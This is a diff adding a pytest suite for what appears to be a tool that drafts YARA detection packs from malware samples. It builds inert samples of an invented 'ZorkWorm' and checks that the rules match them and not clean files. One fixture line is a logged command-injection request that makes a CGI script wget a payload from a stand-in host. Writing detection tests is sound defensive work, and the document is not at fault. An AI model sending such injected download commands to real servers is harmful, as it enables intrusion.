@@ -1,0 +1,111 @@
+import os
+import random
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from codered.authoring.drafting import draft_pack
+from codered.authoring.goodware import Nothing
+from codered.authoring.orders import Draft, DraftOrder, Source
+from codered.authoring.placing import place_draft
+from codered.model.errors import WrongUse
+from codered.model.target import Place
+from codered.packs.compiling import compile_packs
+from codered.packs.linting import lint_packs
+from codered.packs.loading import load_pack
+from codered.packs.testing import check_examples
+from codered.scan.example_scan import scan_example
+from codered.scan.request import ScanRequest
+from codered.scan.run import scan
+from codered.targets import open_target
+
+MARKERS = (b"ZorkWorm.spreadOnce", b"/var/tmp/.zorkd/lock", b"Greetings from Zorkland", b"zork_task_runner")
+REQUEST = "GET /cgi-bin/zork.cgi?c=wget+http://203.0.113.9/z HTTP/1.1"
+LINE = f'198.51.100.9 - - [21/Nov/2026:10:00:00 +0000] "{REQUEST}" 404 1 "-" "-"\n'
+
+
+@pytest.fixture
+def evidence(tmp_path: Path) -> Path:
+    """Three inert samples and one log line of an invented worm, and clean files that hold one of its strings."""
+    bad, clean = tmp_path / "bad", tmp_path / "clean"
+    bad.mkdir()
+    clean.mkdir()
+    for number in range(3):
+        noise = random.Random(number).randbytes(3000)
+        marks = random.Random(number).sample(MARKERS, len(MARKERS))
+        content = (
+            noise + b"\0" + b"\0".join(marks) + b"\0printf\0jo@example.org\0" + "Global\\ZorkMutex".encode("utf-16le")
+        )
+        (bad / f"zorkd-{number}").write_bytes(content + b"\0\0\0")
+    (bad / "access.log").write_text(LINE)
+    (clean / "tool.bin").write_bytes(b"\0\0zork_task_runner\0 an honest tool")
+    (clean / "note.txt").write_text("ZorkWorm is what they call it\n")
+    return tmp_path
+
+
+def draft(evidence: Path, *names: str, clean: bool = True, name: str = "zork") -> Draft:
+    sources = tuple(Source(str(evidence / given)) for given in names or ("bad",))
+    chosen = (str(evidence / "clean"),) if clean else ()
+    order = DraftOrder(name=name, sources=sources, goodware=Nothing(), today=date(2026, 11, 22), clean=chosen)
+    return draft_pack(order)
+
+
+def test_a_draft_lints_tests_and_finds_the_samples_and_not_the_clean_files(evidence: Path, tmp_path: Path) -> None:
+    drafted = draft(evidence)
+    (tmp_path / "packs").mkdir()
+    loaded = load_pack(place_draft(drafted, tmp_path / "packs"))
+    assert lint_packs((loaded,)) == ()
+    rules = compile_packs((loaded,), None)
+    assert check_examples(loaded, lambda example: scan_example(example, rules)) == ()
+    for part in ("bad", "clean"):
+        place = os.path.realpath(evidence / part)
+        target = open_target(scope=(os.fsencode(place),))
+        report = scan(target, ScanRequest(places=(Place(part, (place,)),), cores=1), rules)
+        found = {(finding.indicator, os.path.basename(finding.subject.path or "")) for finding in report.findings}
+        if part == "clean":
+            assert found == set()
+        else:
+            assert {("body", f"zorkd-{n}") for n in range(3)} | {
+                ("known-sample", f"zorkd-{n}") for n in range(3)
+            } <= found
+            assert any(indicator == "request-1" for indicator, _ in found)
+    assert "zork_task_runner" not in loaded.rules
+    assert "example.org" not in loaded.rules
+    assert {sign.id for sign in loaded.pack.content} == {"body", "in-memory"}
+    assert any("note.txt" in choice.why or "clean" in choice.why for choice in drafted.choices)
+
+
+def test_no_part_of_a_sample_gets_into_the_pack_but_the_strings(evidence: Path) -> None:
+    drafted = draft(evidence)
+    noise = [random.Random(number).randbytes(3000) for number in range(3)]
+    everything = b"".join(drafted.files.values())
+    assert not any(piece[at : at + 12].hex().encode() in everything for piece in noise for at in range(0, 2900, 50))
+
+
+def test_texts_give_a_rule_for_texts(evidence: Path) -> None:
+    for number in range(2):
+        text = f"<?php die('inert example {number}');\n// Zorkshell by zork crew\n"
+        (evidence / f"shell{number}.php").write_text(f"{text}zork_dispatch($zork_key, {number * 77});\n")
+    rules = draft(evidence, "shell0.php", "shell1.php", name="zork-shell").files["rules.yar"].decode()
+    assert "zork_dispatch" in rules
+    assert "rule zork_shell_body" in rules
+
+
+def test_memory_alone_gives_a_rule_for_memory(evidence: Path) -> None:
+    (evidence / "host.vmem").write_bytes(bytes(500) + (evidence / "bad/zorkd-0").read_bytes())
+    drafted = draft(evidence, "host.vmem", clean=False)
+    assert "examples/hit/running-1.memory.yaml" in drafted.files
+    assert "rule zork_body" not in drafted.files["rules.yar"].decode()
+
+
+def test_what_can_not_be_drafted_is_refused_with_the_reason(evidence: Path) -> None:
+    (evidence / "dull.bin").write_bytes(b"\0printf\0malloc\0GetProcAddress\0")
+    with pytest.raises(WrongUse, match=r"nothing tells the threat.*every program"):
+        draft(evidence, "dull.bin")
+    (evidence / "clean/copy").write_bytes((evidence / "bad/zorkd-1").read_bytes())
+    with pytest.raises(WrongUse, match="is the same as the sample zorkd-1"):
+        draft(evidence)
+    for name in ("Bad Name", "../up", "x" * 41, "-a"):
+        with pytest.raises(WrongUse, match="no name for a pack"):
+            draft(evidence, name=name)
